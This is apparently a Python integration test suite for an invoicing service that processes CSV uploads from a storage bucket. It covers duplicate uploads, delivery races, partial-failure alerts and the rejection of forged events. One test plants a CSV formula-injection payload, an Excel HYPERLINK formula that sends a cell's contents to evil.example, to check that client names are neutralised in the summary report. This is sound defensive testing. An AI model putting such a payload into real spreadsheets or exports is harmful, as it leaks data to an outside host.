"""Each upload is processed once, by the exact version its event names, whatever is uploaded
after it; files with the same name stay apart; events for keys outside incoming/ are refused;
a file that fails half-way says what it issued (issue: generation under attack)."""

from __future__ import annotations

import json

from invoicing.adapters.invoices import InvoiceRepository
from tests.conftest import queue_messages, sales_csv
from tests.integration.test_other_functions import sqs_event

V1 = sales_csv(["C001;03/11/2026;Audit;2;h;95;20;;;"])
V2 = sales_csv(["C003;04/11/2026;Atelier;1;u;180;20;;;"])


def buyers(resources) -> list[str]:
    return sorted(s.invoice.buyer.ref for s in InvoiceRepository(resources).all())


def test_two_uploads_to_one_key_before_the_function_runs_are_both_invoiced(
    runtime, bucket, resources, with_clients
) -> None:
    bucket.put("incoming/export.csv", V1)
    bucket.put("incoming/export.csv", V2)  # overwritten before generate ran
    runtime.run_until_idle()
    assert buyers(resources) == ["C001", "C003"]
    processed = bucket.keys("processed/export")
    assert len(processed) == 2
    assert sorted(bucket.get(k) for k in processed) == sorted([V1.encode(), V2.encode()])
    # Each upload has its own summary; neither overwrote the other.
    reports = bucket.keys("reports/export")
    assert len(reports) == 2
    assert all(r.endswith(".invoices.csv") for r in reports)
    assert bucket.keys("incoming/") == []


def test_the_same_name_in_two_folders_keeps_two_reports(runtime, bucket, resources, with_clients) -> None:
    bucket.put("incoming/a/ventes.csv", V1)
    bucket.put("incoming/b/ventes.csv", V2)
    runtime.run_until_idle()
    assert bucket.keys("processed/") == [
        "processed/a/ventes.csv",
        "processed/b/ventes.csv",
        "processed/clients/clients.csv",
    ]
    assert bucket.keys("reports/") == [
        "reports/a/ventes.csv.invoices.csv",
        "reports/b/ventes.csv.invoices.csv",
    ]


def test_a_monthly_file_of_the_same_name_keeps_last_months_report(runtime, bucket, with_clients) -> None:
    bucket.put("incoming/ventes.csv", V1)
    runtime.run_until_idle()
    first_report = bucket.get("reports/ventes.csv.invoices.csv")
    bucket.put("incoming/ventes.csv", V2)
    runtime.run_until_idle()
    assert bucket.get("reports/ventes.csv.invoices.csv") == first_report
    assert bucket.get("processed/ventes.csv") == V1.encode()
    (stamped,) = [k for k in bucket.keys("processed/ventes.") if k != "processed/ventes.csv"]
    assert bucket.get(stamped) == V2.encode()
    assert stamped.startswith("processed/ventes.2")
    assert stamped.endswith("Z.csv")


def test_an_event_for_a_key_outside_incoming_is_refused(
    runtime, stack, bucket, resources, with_clients
) -> None:
    bucket.put("incoming/ventes.csv", V1)
    runtime.run_until_idle()
    (stored,) = InvoiceRepository(resources).all()
    pdf = bucket.get(stored.pdf_key)
    forged = {
        "Records": [
            {
                "eventSource": "aws:s3",
                "s3": {"bucket": {"name": bucket.name}, "object": {"key": stored.pdf_key, "size": len(pdf)}},
            }
        ]
    }
    response = runtime.invoke("GenerateFunction", sqs_event(stack, "GenerateQueue", [json.dumps(forged)]))
    assert response == {"batchItemFailures": []}
    assert bucket.get(stored.pdf_key) == pdf  # untouched
    assert bucket.keys("rejected/") == []


def test_two_deliveries_of_one_file_at_once_are_both_successes(runtime, stack, bucket, with_clients) -> None:
    bucket.put("incoming/ventes.csv", V1)
    (message,) = queue_messages(stack.resource("GenerateQueue"))
    body = message["Body"]
    first = runtime.invoke("GenerateFunction", sqs_event(stack, "GenerateQueue", [body]))
    # The second delivery finds the upload gone: already processed, not an error.
    second = runtime.invoke("GenerateFunction", sqs_event(stack, "GenerateQueue", [body]))
    assert first == second == {"batchItemFailures": []}
    assert bucket.keys("processed/ventes") == ["processed/ventes.csv"]


def test_a_move_raced_by_another_delivery_is_success(runtime, bucket, with_clients) -> None:
    """The other worker deletes the version between our read and our copy."""
    importer = runtime._module(runtime.stack.functions["GenerateFunction"]).importer
    real_move = importer.documents.move

    def raced_move(source, destination, *, version_id=None):
        real_move(source, destination, version_id=version_id)  # the other delivery's move
        real_move(source, destination, version_id=version_id)  # ours: the version is gone

    importer.documents.move = raced_move
    try:
        bucket.put("incoming/ventes.csv", V1)
        runtime.run_until_idle()
    finally:
        importer.documents.move = real_move
    generate = [d for d in runtime.deliveries if d.function == "GenerateFunction"]
    assert all(d.failed == 0 for d in generate)
    assert bucket.keys("processed/ventes") == ["processed/ventes.csv"]


def test_a_file_that_fails_half_way_says_what_it_issued_then_completes(
    runtime, bucket, resources, with_clients, operator_inbox
) -> None:
    rows = [
        "C001;03/11/2026;Audit;2;h;95;20;;;",
        "C002;04/11/2026;Consulting;6;h;110;0;;;autoliquidation",
        "C003;05/11/2026;Atelier;1;u;180;20;;;",
    ]
    importer = runtime._module(runtime.stack.functions["GenerateFunction"]).importer
    real_render = importer.issuer.render
    calls: list[str] = []

    def render_failing_once(invoice):
        calls.append(invoice.number)
        if len(calls) == 2:
            raise RuntimeError("rendering service hiccup")
        return real_render(invoice)

    importer.issuer.render = render_failing_once
    try:
        bucket.put("incoming/ventes.csv", sales_csv(rows))
        runtime.run_until_idle()
    finally:
        importer.issuer.render = real_render
    (alert,) = operator_inbox.messages()
    assert "Fichier incomplet / file incomplete: ventes.csv" in alert["Subject"]
    assert "1 document(s) sur 3" in alert["Message"]
    assert calls[0] in alert["Message"]  # the number already issued
    assert "RuntimeError: rendering service hiccup" in alert["Message"]
    assert "Still to issue (client, rows): C002 (3), C003 (4)." in alert["Message"]
    # The retry completed the file: three invoices, no gap, the final summary lists all three.
    numbers = sorted(s.invoice.number for s in InvoiceRepository(resources).all())
    assert [n[-5:] for n in numbers] == ["00001", "00002", "00003"]
    summary = bucket.get("reports/ventes.csv.invoices.csv").decode("utf-8-sig").splitlines()
    assert len(summary) == 4


def test_huge_cells_still_get_their_alert(runtime, bucket, operator_inbox) -> None:
    """Issue 7: three 100,000-character client cells made an alert SNS refused (over 256 KB),
    after the file had moved, so no alert was ever sent. Values are quoted cut short now."""
    huge = "x" * 100_000
    bucket.put(
        "incoming/clients/enorme.csv",
        f"reference;nom;adresse;code_postal;ville;siren\nC009;{huge};{huge};69001;{huge};552100554\n",
    )
    runtime.run_until_idle()
    (alert,) = operator_inbox.messages()
    assert "enorme.csv" in alert["Subject"]
    assert len(alert["Message"].encode()) < 20_000
    report = bucket.get("reports/clients/enorme.csv.errors.csv")
    assert len(report) < 5_000
    assert bucket.keys("rejected/") == ["rejected/clients/enorme.csv"]


def test_the_summary_neutralises_formulas_in_client_names(runtime, bucket, resources) -> None:
    """Issue 7: reports/*.invoices.csv wrote client names raw; Excel ran them as formulas."""
    evil = '=HYPERLINK("http://evil.example/?d="&A2;"facture")'
    bucket.put(
        "incoming/clients/clients.csv",
        f'reference;nom;adresse;code_postal;ville;siren\n-2+3;"{evil.replace(chr(34), chr(34) * 2)}";'
        "4 rue;69001;Lyon;552100554\n",
    )
    runtime.run_until_idle()
    bucket.put("incoming/ventes.csv", sales_csv(["-2+3;03/11/2026;Audit;1;h;95;20;;;"]))
    runtime.run_until_idle()
    import csv
    import io

    text = bucket.get("reports/ventes.csv.invoices.csv").decode("utf-8-sig")
    (row,) = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert row["nom"] == "'" + evil
    assert row["client"] == "'-2+3"
